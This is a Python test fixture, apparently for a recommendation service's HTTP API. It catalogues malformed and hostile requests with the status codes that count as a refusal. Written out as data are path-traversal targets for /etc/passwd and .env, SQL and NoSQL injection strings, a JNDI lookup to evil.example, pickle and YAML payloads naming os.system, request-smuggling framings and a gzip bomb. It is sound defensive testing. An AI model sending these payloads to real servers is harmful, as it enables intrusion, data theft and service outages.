"""Requests that nobody should send: what is wrong, the bytes, and the answers that are right."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from typing import Any, NamedTuple
from urllib.parse import quote

#: The status of a connection that is closed without an answer.
CLOSED = 0
MB = 1 << 20
LONG = 100_000
CLICK = {"user_id": "ann", "item_id": "milk", "type": "click"}

RECOMMEND = "/api/recommendations/ann"
SESSION = "/api/recommendations"
ITEMS = "/api/items"
TRENDING = "/api/trending"
USERS = "/api/users"
HISTORY = "/api/users/ann/history"
SIMILAR = "/api/items/milk/similar"
POST = "/api/interactions"
FEEDBACK = "/api/feedback"


class Bad(NamedTuple):
    """One request, and the statuses that refuse it."""

    name: str
    wire: bytes
    right: frozenset[int]


def raw(
    target: str | bytes, *headers: str | bytes, method: str = "GET", body: bytes = b""
) -> bytes:
    """A request as bytes; nothing is checked or encoded."""
    lines: list[bytes] = [
        b" ".join((method.encode("latin-1"), _bytes(target), b"HTTP/1.1")),
        b"Host: 127.0.0.1",
        *map(_bytes, headers),
    ]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def json_body(path: str, body: bytes, *headers: str, method: str = "POST") -> bytes:
    """A body that says it is JSON."""
    said = ("Content-Type: application/json", f"Content-Length: {len(body)}", *headers)
    return raw(path, *said, method=method, body=body)


def _bytes(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode("latin-1")


#: Query strings, by path: all are understood as HTTP and refused as input.
QUERIES: dict[str, tuple[str, ...]] = {
    RECOMMEND: (
        "limit=0", "limit=-1", "limit=1000000000", "limit=101", "limit=ten", "limit=1.5",
        "limit=", "limit=%00", "limit=1e3", "limit=0x10", "limit=NaN", "limit=9" + "9" * 400,
        "limit=5&limit=6", "limt=5", "mode=other", "mode=", "mode=MIXED", "mode=mixed&mode=mixed",
        "category=", "category=%00", "category=%0D%0A", "category=" + "a" * 257,
        "brand=", "brand=%7F", "brand=" + "b" * 257,
        "price_min=-1", "price_min=NaN", "price_min=inf", "price_max=-inf", "price_min=1e999",
        "price_min=x", "price_max=1,5", "diversity=-0.1", "diversity=1.1", "diversity=nan",
        "diversity=inf", "context=basement", "item_id=%00", "item_id=", "explain=maybe",
        "page=-1", "page=0", "page=1e9", "page=1000000000", "cursor=%00", "cursor=;DROP",
        "cursor=" + "a" * 5_000, "user_id=bob", "__proto__=1", "offset=-1", "%00=1", "%ff=1",
        "[limit]=1", "limit[]=1", "a" * 200 + "=1",
    ),
    SESSION: (
        "", "session_id=", "session_id=%00", "session_id=%0d%0aX:1", "session_id=" + "s" * 257,
    ),
    ITEMS: (
        "limit=0", "limit=101", "limit=-5", "q=" + "a" * 129, "category=%0A", "brand=%00",
        "price_min=nan", "price_max=-3", "cursor=%00", "sort=price", "offset=-1",
    ),
    TRENDING: (
        "window=2h", "window=", "window=24H", "limit=0", "limit=999", "country=norway",
        "country=no", "country=N%00", "category=%1F", "segment=%00",
    ),
    SIMILAR: ("limit=0", "limit=51", "limit=x", "user=ann"),
    HISTORY: ("limit=0", "limit=201", "type=stare", "cursor=x", "cursor=-1:a", "cursor=1:%00"),
    USERS: ("limit=0", "limit=101", "limit=all"),
}  # fmt: skip

#: Paths whose id, method or form is wrong.
PATHS: tuple[tuple[str, frozenset[int]], ...] = tuple(
    (path, frozenset({404, 405, 422}))
    for path in (
        "/api/trending?country=NO&category=dairy",
        "/api/recommendations/a%00b", "/api/recommendations/a%0D%0Ab", "/api/recommendations/%7F",
        "/api/recommendations/%1B%5B2J", "/api/recommendations/" + "a" * 257, "/api/items/%00",
        "/api/items/" + "%F0%9F%8D%9E" * 257, "/api/users/%0A", "/api/users/%00/history",
        "/api/items/../../etc/passwd", "/..%2f..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd",
        "/static/../serving/app.py", "/docs/../../keys.json", "/.git/config", "/.env",
        "/api//items", "/api/items/", "/API/ITEMS", "/api/items;a=b", "//evil.example/api/items",
        "/api/recommendations/", "/api/recommendations/ann/", "/api/recommendations/ann/why",
        "/redoc", "/docs/oauth2-redirect", "/metrics/../api/nothing", "/api/nothing", "/%",
        "/api/items/%zz%00", "/api/%69tems%00",
    )
)  # fmt: skip

#: Bodies for POST /api/interactions: JSON by name only, or JSON that is no interaction.
BODIES: dict[str, bytes] = {
    "nothing": b"",
    "null": b"null",
    "a number": b"7",
    "a string": b'"click"',
    "an empty object": b"{}",
    "an empty list": b"[]",
    "a list of nothing": b"[null]",
    "a list in a list": b"[[]]",
    "501 interactions": json.dumps([CLICK] * 501).encode(),
    "10k interactions": json.dumps([CLICK] * 10_000).encode()[: MB - 2] + b"]",
    "100k empty objects": b"[" + b"{}," * LONG + b"{}]",
    "truncated": b'{"user_id": "ann", "item',
    "two documents": json.dumps(CLICK).encode() * 2,
    "bad UTF-8": b'{"user_id": "\xff\xfe", "item_id": "milk", "type": "click"}',
    "UTF-16": json.dumps(CLICK).encode("utf-16"),
    "a byte order mark": b"\xef\xbb\xbf" + json.dumps(CLICK).encode(),
    "NUL bytes": b"\x00" * 64,
    "NUL in an id": json.dumps(CLICK | {"user_id": "a\x00b"}).encode(),
    "CRLF in an id": json.dumps(CLICK | {"item_id": "a\r\nSet-Cookie: a=b"}).encode(),
    "an escape sequence": json.dumps(CLICK | {"item_id": "\x1b[2J"}).encode(),
    "a lone surrogate": b'{"user_id": "\\ud800", "item_id": "milk", "type": "click"}',
    "half a surrogate pair": b'{"user_id": "a\\ude00b", "item_id": "milk", "type": "click"}',
    "deep lists": b"[" * LONG + b"]" * LONG,
    "deep objects": b'{"a":' * LONG + b"1" + b"}" * LONG,
    "a deep field": json.dumps(CLICK).encode()[:-1] + b', "x": ' + b"[" * LONG + b"]" * LONG + b"}",
    "an endless number": b'{"event_time": ' + b"9" * LONG + b"}",
    "NaN": json.dumps(CLICK | {"price": float("nan")}).encode(),
    "infinity": json.dumps(CLICK | {"price": float("inf")}).encode(),
    "minus infinity": json.dumps(CLICK | {"value": float("-inf")}).encode(),
    "1e999": json.dumps(CLICK).encode()[:-1] + b', "price": 1e999}',
    "a price below nothing": json.dumps(CLICK | {"price": -1}).encode(),
    "no quantity": json.dumps(CLICK | {"quantity": 0}).encode(),
    "a quantity of a billion": json.dumps(CLICK | {"quantity": 10**9}).encode(),
    "half a piece": json.dumps(CLICK | {"quantity": 0.5}).encode(),
    "an unknown type": json.dumps(CLICK | {"type": "stare"}).encode(),
    "a type that is a list": json.dumps(CLICK | {"type": ["click"]}).encode(),
    "a user that is a number": json.dumps(CLICK | {"user_id": 718}).encode(),
    "a user that is an object": json.dumps(CLICK | {"user_id": {"$ne": ""}}).encode(),
    "a user that is true": json.dumps(CLICK | {"user_id": True}).encode(),
    "an empty user": json.dumps(CLICK | {"user_id": ""}).encode(),
    "a user too long": json.dumps(CLICK | {"user_id": "u" * 257}).encode(),
    "nobody": json.dumps({"item_id": "milk", "type": "click"}).encode(),
    "no item": json.dumps({"user_id": "ann", "type": "click"}).encode(),
    "an unknown field": json.dumps(CLICK | {"admin": True}).encode(),
    "a prototype": json.dumps(CLICK | {"__proto__": {"a": 1}}).encode(),
    "next year": json.dumps(CLICK | {"event_time": 4_102_444_800_000}).encode(),
    "before the epoch": json.dumps(CLICK | {"event_time": -1}).encode(),
    "a time in words": json.dumps(CLICK | {"event_time": "yesterday"}).encode(),
    "an id that is no id": json.dumps(CLICK | {"event_id": ""}).encode(),
    "another contract": json.dumps(CLICK | {"schema_version": 99}).encode(),
    "one bad among good": json.dumps([CLICK] * 9 + [CLICK | {"quantity": -1}]).encode(),
    "XML": b"<click user='ann'/>",
    "a form": b"user_id=ann&item_id=milk&type=click",
    "a pickle": b"\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93.",
    "YAML": b"user_id: !!python/object/apply:os.system ['true']",
    "a comment": b'{"user_id": "ann" /* she */, "item_id": "milk", "type": "click"}',
    "single quotes": b"{'user_id': 'ann', 'item_id': 'milk', 'type': 'click'}",
}

#: Bodies for other routes that take one.
OTHER_BODIES: tuple[tuple[str, str, str, Any], ...] = (
    ("POST", FEEDBACK, "an unknown kind", {"user_id": "ann", "item_id": "milk", "kind": "hate"}),
    ("POST", FEEDBACK, "nobody", {"item_id": "milk", "kind": "like"}),
    ("POST", FEEDBACK, "a list", [{"user_id": "ann", "item_id": "milk", "kind": "like"}]),
    (
        "POST",
        FEEDBACK,
        "an unknown field",
        {"user_id": "a", "item_id": "b", "kind": "like", "x": 1},
    ),
    ("POST", SESSION, "a basket of 10k", {"basket": ["milk"] * 10_000}),
    ("POST", SESSION, "10k exclusions", {"exclude": ["milk"] * 10_000}),
    ("POST", SESSION, "10k recents", {"recents": [{"item_id": "milk"}] * 10_000}),
    ("POST", SESSION, "a limit in words", {"limit": "ten"}),
    ("POST", SESSION, "a NUL in a basket", {"basket": ["a\x00"]}),
    ("POST", SESSION, "an unknown field", {"baskets": []}),
    ("POST", SESSION, "a list", []),
    ("PUT", "/api/users/ann", "another user", {"user_id": "bob"}),
    ("PUT", "/api/users/ann", "an unknown field", {"password": "x"}),
    ("PUT", "/api/users/ann", "10k categories", {"preferred_categories": ["a"] * 10_000}),
    ("PUT", "/api/users/ann", "a list", []),
)


def framing() -> Iterator[Bad]:
    """What is wrong about the request itself."""
    click = json.dumps(CLICK).encode()
    json_type = "Content-Type: application/json"
    chunked = "Transfer-Encoding: chunked"
    bad, closed = frozenset({400}), frozenset({400, CLOSED})
    yield Bad("no HTTP at all", b"hello\r\n\r\n", bad)
    yield Bad("TLS on a plain port", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" * 9, bad)
    yield Bad("Redis", b"*1\r\n$8\r\nFLUSHALL\r\n", bad)
    yield Bad("an unknown method", raw(ITEMS, method="BREW"), frozenset({400, 405}))
    yield Bad("a method in small letters", raw(ITEMS, method="get"), bad)
    yield Bad("a space in the target", raw("/api/items?q=a b"), bad)
    yield Bad("a NUL in the target", raw(b"/api/items?q=\x00"), bad)
    yield Bad(
        "bytes beyond ASCII in the target", raw(b"/api/items/\xff"), frozenset({400, 404, 422})
    )
    yield Bad(
        "an absolute target elsewhere", raw("http://evil.example/nothing"), frozenset({400, 404})
    )
    yield Bad("a version from the future", b"GET /api/items HTTP/9.9\r\nHost: a\r\n\r\n", bad)
    yield Bad("a header without a colon", raw(ITEMS, "nonsense"), bad)
    yield Bad("a header with a NUL", raw(ITEMS, b"X-A: a\x00b"), bad)
    yield Bad("a header with a space in its name", raw(ITEMS, "X A: b"), bad)
    yield Bad("a folded header", raw(ITEMS, "X-A: b\r\n c"), frozenset({200, 400}))
    yield Bad("one header of 20 kB", raw(ITEMS, "X-A: " + "a" * 20_000), frozenset({431}))
    yield Bad("65 headers", raw(ITEMS, *(f"X-{n}: a" for n in range(65))), frozenset({431}))
    yield Bad(
        "10k headers", raw(ITEMS, *(f"X-{n}: a" for n in range(10_000))), frozenset({431, CLOSED})
    )
    yield Bad("headers of 5 MB", raw(ITEMS, "X-A: " + "a" * 5 * MB), frozenset({431, CLOSED}))
    yield Bad("a target of 20 kB", raw(ITEMS + "?q=" + "a" * 20_000), frozenset({414}))
    yield Bad("a target of 5 MB", raw(ITEMS + "?q=" + "a" * 5 * MB), frozenset({414, 431, CLOSED}))
    yield Bad(
        "two lengths",
        raw(POST, json_type, "Content-Length: 2", "Content-Length: 3", method="POST", body=b"{}"),
        bad,
    )
    yield Bad(
        "a length below nothing", raw(POST, json_type, "Content-Length: -1", method="POST"), bad
    )
    yield Bad("a length in words", raw(POST, json_type, "Content-Length: two", method="POST"), bad)
    yield Bad(
        "a length beyond counting",
        raw(POST, json_type, "Content-Length: " + "9" * 40, method="POST"),
        frozenset({400, 413}),
    )
    yield Bad(
        "length and chunks",
        raw(POST, json_type, "Content-Length: 5", chunked, method="POST", body=b"0\r\n\r\n"),
        bad,
    )
    yield Bad(
        "chunks of no size",
        raw(POST, json_type, chunked, method="POST", body=b"zz\r\n{}\r\n0\r\n\r\n"),
        closed,
    )
    yield Bad(
        "a chunk of 2^64",
        raw(POST, json_type, chunked, method="POST", body=b"FFFFFFFFFFFFFFFFF\r\n"),
        closed,
    )
    yield Bad(
        "an unknown transfer coding",
        raw(POST, json_type, "Transfer-Encoding: cow", method="POST", body=click),
        frozenset({400, 411, 415, 422, 501}),
    )
    yield Bad(
        "100 MB, announced",
        raw(POST, json_type, f"Content-Length: {100 * MB}", method="POST"),
        frozenset({413}),
    )
    yield Bad("2 MB, announced and sent", json_body(POST, b" " * 2 * MB), frozenset({413, CLOSED}))
    yield Bad(
        "4 MB in chunks",
        raw(
            POST,
            json_type,
            chunked,
            method="POST",
            body=(b"40000\r\n" + b" " * 0x40000 + b"\r\n") * 16,
        ),
        frozenset({413, CLOSED}),
    )
    bomb = gzip.compress(b"[" + b"0," * 5 * MB + b"0]")
    for coding in ("gzip", "deflate", "br", "gzip, gzip", "identity, gzip"):
        yield Bad(
            f"a bomb as {coding}",
            json_body(POST, bomb, f"Content-Encoding: {coding}"),
            frozenset({415}),
        )
    for kind in (
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=a",
        "application/xml",
        "application/json5",
        "text/json",
        "",
        "application/jsonx",
    ):
        request = raw(
            POST,
            f"Content-Type: {kind}",
            f"Content-Length: {len(click)}",
            method="POST",
            body=click,
        )
        yield Bad(f"a body of type {kind!r}", request, frozenset({415}))
    yield Bad(
        "a body of no type",
        raw(POST, f"Content-Length: {len(click)}", method="POST", body=click),
        frozenset({415}),
    )
    for method in ("DELETE", "PATCH", "PUT", "TRACE", "CONNECT", "PROPFIND", "OPTIONS", "HEAD"):
        yield Bad(f"{method} of interactions", raw(POST, method=method), frozenset({400, 405}))
    yield Bad("POST of a list", json_body(TRENDING, b"{}"), frozenset({405}))
    yield Bad("a method in a header", raw(POST, "X-HTTP-Method-Override: POST"), frozenset({405}))
    yield Bad(
        "an upgrade",
        raw("/nothing", "Connection: Upgrade", "Upgrade: websocket"),
        frozenset({400, 404}),
    )
    yield Bad(
        "a smuggled request",
        raw(POST, json_type, "Content-Length : 3", method="POST", body=b"{}"),
        bad,
    )


def catalogue() -> list[Bad]:
    """All of it: some 270 requests."""
    refused = frozenset({400, 422})
    found = [*framing()]
    for path, queries in QUERIES.items():
        found += [Bad(f"{path}?{q[:60]}", raw(f"{path}?{q}"), refused) for q in queries]
    found += [Bad(path[:60], raw(path), frozenset({400, *right})) for path, right in PATHS]
    found += [
        Bad(f"{name} as interactions", json_body(POST, body), refused | {413})
        for name, body in BODIES.items()
    ]
    found += [
        Bad(
            f"{name} to {method} {path}",
            json_body(path, json.dumps(said).encode(), method=method),
            refused,
        )
        for method, path, name, said in OTHER_BODIES
    ]
    return found


#: Odd, but only an id: answered like any other, and meaning nothing to any store.
ONLY_IDS = tuple(
    quote(text, safe="")
    for text in (
        "'; DROP TABLE tiles; --", '" OR 1=1 --', "return redis.call('FLUSHALL')", "*", "$ne",
        "../../etc/passwd", "{{7*7}}", "${jndi:ldap://evil.example}", "<script>alert(1)</script>",
        "%s%n", "æøå", "\ufffd", "a/b", "a:b", "anon:anon:x", "constructor", "null", "NaN", "-1",
        "😀" * 60, "x" * 256, "\u202eevil",
    )
)  # fmt: skip
